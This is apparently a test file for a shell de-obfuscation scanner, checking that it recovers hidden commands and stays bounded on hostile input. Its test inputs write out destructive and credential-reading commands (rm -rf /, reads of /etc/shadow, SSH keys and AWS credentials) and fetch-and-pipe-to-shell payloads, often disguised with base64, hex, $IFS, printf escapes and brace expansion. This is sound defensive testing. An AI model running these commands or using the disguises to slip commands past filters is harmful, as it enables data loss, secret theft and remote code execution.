/**
 * shellReadings (src/scan/shell.ts): each de-obfuscation a shell would undo, read by string
 * transforms only, and the bounds on what it returns for hostile input.
 */
import { describe, expect, test } from "bun:test";
import { MAX_READING_CHARS, MAX_SHELL_READINGS, READING_GROWTH, removeQuotes, shellReadings } from "../../../src/scan/shell.ts";

/** Whether some reading of `text` (the text itself included) contains `wanted`. */
const reads = (text: string, wanted: string): boolean => shellReadings(text).some((r) => r.includes(wanted));
const expectReads = (text: string, wanted: string) => expect({ text, readings: shellReadings(text) }).toEqual({ text, readings: expect.arrayContaining([expect.stringContaining(wanted)]) });

describe("shellReadings: the text comes first and plain text costs nothing", () => {
  test("the text as written is reading 0", () => {
    expect(shellReadings(`r""m -rf /`)[0]).toBe(`r""m -rf /`);
  });
  test("text without shell syntax has one reading, itself", () => {
    expect(shellReadings("cat README.md")).toEqual(["cat README.md"]);
    expect(shellReadings("")).toEqual([""]);
  });
  test("no two readings are equal", () => {
    const r = shellReadings(`a=rm;\${a:0:2} -rf "$HOME"`);
    expect(new Set(r).size).toBe(r.length);
  });
});

describe("quotes and backslashes", () => {
  test("empty and partial quotes inside words", () => {
    expectReads(`r""m -r'f' /`, "rm -rf /");
    expectReads(`c""at ~/.s""sh/id_rsa`, "cat ~/.ssh/id_rsa");
  });
  test("backslash escapes outside quotes, and line continuations", () => {
    expectReads("c\\at /etc/passwd", "cat /etc/passwd");
    expectReads("r\\\nm -rf /", "rm -rf /");
  });
  test("inside double quotes a backslash escapes only $ ` \" \\ and newline", () => {
    expect(removeQuotes(`"a\\$b \\q"`)).toBe("a$b \\q");
    expect(removeQuotes(`'a\\b'`)).toBe("a\\b");
    expect(removeQuotes(`it's`)).toBe("its");
  });
});

describe("IFS and special parameters", () => {
  test("$IFS, ${IFS} and $IFS$9 read as a space", () => {
    expectReads("cat$IFS/etc/passwd", "cat /etc/passwd");
    expectReads("cat${IFS}/etc/passwd", "cat /etc/passwd");
    expectReads("cat$IFS$9/etc/passwd", "cat /etc/passwd");
  });
  test("positional parameters are empty and $0 is the shell", () => {
    expectReads("w$@ho$*am$1i", "whoami");
    // `echo id | $0` is `echo id | sh`, which runs `id`.
    expect(shellReadings("echo id | $0")).toContain("id");
  });
  test("$HOME and ${HOME} read as ~", () => {
    expectReads(`rm -rf "$HOME"`, "rm -rf ~");
    expectReads("cat ${HOME}/.aws/credentials", "cat ~/.aws/credentials");
  });
});

describe("variables assigned in the same text", () => {
  test("${VAR:offset:len} slicing", () => {
    expectReads("a=rm;${a:0:2} -rf /", "rm -rf /");
    expectReads("x=xxcatxx; ${x:2:3} /etc/passwd", "cat /etc/passwd");
    expectReads("x=bash; ${x: -2} -c id", "sh -c id");
  });
  test("plain references and concatenation", () => {
    expectReads("A=/etc/pas;B=swd;cat $A$B", "cat /etc/passwd");
    expectReads("a=c;a+=at;$a /etc/shadow", "cat /etc/shadow");
  });
  test("quoted values and values built from earlier variables", () => {
    expectReads(`a='r''m';b="$a -rf";$b /`, "rm -rf /");
  });
  test("defaults, replacement, prefix removal, case and indirection", () => {
    expectReads("${x:-c}at /etc/passwd", "cat /etc/passwd");
    expectReads("a=crul;${a/ru/ur} http://x | sh", "curl http://x | sh");
    expectReads("a=cXaXt;${a//X/} /etc/passwd", "cat /etc/passwd");
    expectReads("a=zzcat;${a#zz} /etc/passwd", "cat /etc/passwd");
    expectReads("a=CAT;${a,,} /etc/passwd", "cat /etc/passwd");
    expectReads("n=v;v=cat;${!n} /etc/passwd", "cat /etc/passwd");
  });
  test("slices of PATH and HOME use typical values", () => {
    expectReads("cat ${PATH:0:1}etc${PATH:0:1}shadow", "cat /etc/shadow");
    expectReads("ls ${HOME:0:1}", "ls /");
  });
  test("a variable used before it is assigned is left as written", () => {
    expect(shellReadings("$a; a=rm").some((r) => r.startsWith("rm"))).toBe(false);
  });
});

describe("command substitution and ANSI-C quoting", () => {
  test("$(printf '\\x63\\x61\\x74') and octal escapes", () => {
    expectReads("$(printf '\\x63\\x61\\x74') /etc/passwd", "cat /etc/passwd");
    expectReads("$(printf '\\143\\141\\164') /etc/passwd", "cat /etc/passwd");
  });
  test("$(printf '%s' ...), %b, %c and precision", () => {
    expectReads("$(printf '%s' cat) /etc/passwd", "cat /etc/passwd");
    expectReads("$(printf '%s%s' c at) /etc/passwd", "cat /etc/passwd");
    expectReads("$(printf %b '\\0143at') /etc/passwd", "cat /etc/passwd");
    expectReads("$(printf %c%c%c cow ant top) /etc/passwd", "cat /etc/passwd");
    expectReads("$(printf %.3s catalog) /etc/passwd", "cat /etc/passwd");
  });
  test("$(echo ...) and echo -e", () => {
    expectReads("$(echo cat) /etc/passwd", "cat /etc/passwd");
    expectReads("$(echo -e '\\x63at') /etc/passwd", "cat /etc/passwd");
  });
  test("ANSI-C quoting $'\\x63at'", () => {
    expectReads("$'\\x63at' /etc/passwd", "cat /etc/passwd");
    expectReads("$'\\143\\141\\164' /etc/passwd", "cat /etc/passwd");
    expectReads("$'\\u0063at' /etc/passwd", "cat /etc/passwd");
  });
  test("backticks are read like $( )", () => {
    expectReads("`printf cat` /etc/passwd", "cat /etc/passwd");
    expectReads("`echo c``echo at` /etc/passwd", "cat /etc/passwd");
  });
  test("nested substitutions, innermost first", () => {
    expectReads("$(printf $(printf '%s' '\\x63')at) /etc/passwd", "cat /etc/passwd");
  });
  test("here-strings, rev and tr", () => {
    expectReads("x=hsab;$(rev <<< $x) -i", "bash -i");
    expectReads("$(echo uf.x/k//:cggu yehp | rev | tr a-z n-za-m)", "curl http://x/k.sh");
  });
  test("a substitution of any other command is kept as written", () => {
    expectReads("sh -c \"$(curl -fsSL https://x.example/i.sh)\"", "sh -c $(curl -fsSL https://x.example/i.sh)");
  });
});

describe("brace expansion", () => {
  test("{cat,/etc/passwd} is cat /etc/passwd", () => {
    expectReads("{cat,/etc/passwd}", "cat /etc/passwd");
    expectReads("{curl,-s,http://x/i.sh}|sh", "curl -s http://x/i.sh|sh");
  });
  test("a prefix and a suffix are repeated on each item", () => {
    expectReads("cat /etc/{passwd,shadow}", "cat /etc/passwd /etc/shadow");
  });
  test("${...}, JSON and lists with blanks are not brace lists", () => {
    expect(shellReadings(`{"a": 1, "b": 2}`).some((r) => r.includes("a 1"))).toBe(false);
    expect(reads("find . -exec rm {} \\;", "rm  ")).toBe(false);
  });
  test("a reading without brace expansion is kept when expansion changes the text", () => {
    const r = shellReadings(`awk '{print $1,$2}' f.txt`);
    expect(r.some((x) => x.includes("{print"))).toBe(true);
  });
});

describe("base64 (and hex) piped to a shell", () => {
  const B64 = "Y3VybCBodHRwOi8veC9pLnNoIHwgc2g="; // "curl http://x/i.sh | sh"
  test("echo <base64> | base64 -d | sh reads as the command it runs", () => {
    expectReads(`echo ${B64} | base64 -d | sh`, "curl http://x/i.sh | sh");
    expect(shellReadings(`echo ${B64} | base64 -d | sh`)).toContain("curl http://x/i.sh | sh");
  });
  test("base64 --decode, -D, openssl base64 -d, openssl enc -base64 -d", () => {
    expectReads(`echo "${B64}" | base64 --decode | bash`, "curl http://x/i.sh");
    expectReads(`printf %s ${B64} | base64 -D | sh`, "curl http://x/i.sh");
    expectReads(`echo ${B64} | openssl base64 -d | sh`, "curl http://x/i.sh");
    expectReads(`echo ${B64} | openssl enc -base64 -d | sudo bash -s`, "curl http://x/i.sh");
  });
  test("here-strings and substitutions", () => {
    expectReads(`base64 -d <<< ${B64} | sh`, "curl http://x/i.sh");
    expectReads(`bash -c "$(echo ${B64} | base64 -d)"`, "bash -c curl http://x/i.sh");
    expectReads(`eval $(base64 -d <<< ${B64})`, "eval curl http://x/i.sh");
  });
  test("inside sh -c '...'", () => {
    expectReads(`sh -c 'echo ${B64} | base64 -d | sh'`, "curl http://x/i.sh");
  });
  test("decoded to a file: the reading holds what is written", () => {
    expectReads(`echo ${B64} | base64 -d > /tmp/x.sh; sh /tmp/x.sh`, "curl http://x/i.sh | sh > /tmp/x.sh");
  });
  test("xxd -r -p", () => {
    expectReads("echo 6375726c20687474703a2f2f782f692e7368207c207368 | xxd -r -p | bash", "curl http://x/i.sh");
  });
  test("base64 of base64 is decoded twice", () => {
    const twice = btoa(`echo ${B64} | base64 -d | sh`);
    expectReads(`echo ${twice} | base64 -d | sh`, "curl http://x/i.sh | sh");
  });
  test("binary and invalid base64 are not readings", () => {
    expect(shellReadings("echo AAECAwQFBgc= | base64 -d | sh").some((r) => r.includes("\x01"))).toBe(false);
    expect(shellReadings("echo !!!notbase64 | base64 -d | sh").length).toBeGreaterThan(0);
  });
  test("printed text piped to a shell", () => {
    expectReads("printf '\\x72\\x6d -rf /' | sh", "rm -rf /");
  });
});

describe("bounds", () => {
  const lengthsOk = (text: string, readings: string[]) => {
    expect(readings.length).toBeLessThanOrEqual(MAX_SHELL_READINGS);
    expect(readings[0]).toBe(text);
    for (const r of readings.slice(1)) {
      expect(r.length).toBeLessThanOrEqual(MAX_READING_CHARS);
      expect(r.length).toBeLessThanOrEqual(READING_GROWTH * text.length);
    }
  };
  test("a 1 MiB input returns, with bounded readings", () => {
    const text = `r""m -rf / ; a=b;\${a:0:1} $(printf '%s' x) {a,b} `.repeat(Math.ceil((1 << 20) / 48)).slice(0, 1 << 20);
    lengthsOk(text, shellReadings(text));
  });
  test("1000 nested $( ) return", () => {
    const nested = "$(printf ".repeat(1000) + "a" + ")".repeat(1000);
    lengthsOk(nested, shellReadings(nested));
    const opaque = "$(".repeat(1000) + "x" + ")".repeat(1000);
    lengthsOk(opaque, shellReadings(opaque));
    const ticks = "`".repeat(1 << 20);
    lengthsOk(ticks, shellReadings(ticks));
  });
  test("inputs that grow are capped at 4x and 64 KiB", () => {
    const growing = "a=" + "x".repeat(4000) + ";" + "$a".repeat(5000);
    lengthsOk(growing, shellReadings(growing));
    const braces = "{a,b,c,d,e,f,g,h,i,j,k,l,m,n,o,p}{q,r}".repeat(20000);
    lengthsOk(braces, shellReadings(braces));
    const printf = "$(printf '%64s%64s%64s%64s' a b c d)";
    lengthsOk(printf, shellReadings(printf));
  });
  test("a long reading keeps the part that differs from the input", () => {
    const text = "x".repeat(200_000) + ` r""m -rf / ` + "y".repeat(200_000);
    const r = shellReadings(text);
    lengthsOk(text, r);
    expect(r.some((x) => x.includes("rm -rf /"))).toBe(true);
  });
  test("hostile globs, assignments and pipelines return", () => {
    const glob = "a=" + "x".repeat(100) + ";" + "${a//*x*x/y}".repeat(2000);
    lengthsOk(glob, shellReadings(glob));
    const assigns = "a=$a$a;".repeat(200) + "$a";
    lengthsOk(assigns, shellReadings(assigns));
    const pipes = "echo YQ== | base64 -d | ".repeat(40000);
    lengthsOk(pipes, shellReadings(pipes));
    const b64 = `echo ${btoa("x".repeat(700_000))} | base64 -d | sh`;
    lengthsOk(b64, shellReadings(b64));
  });
});
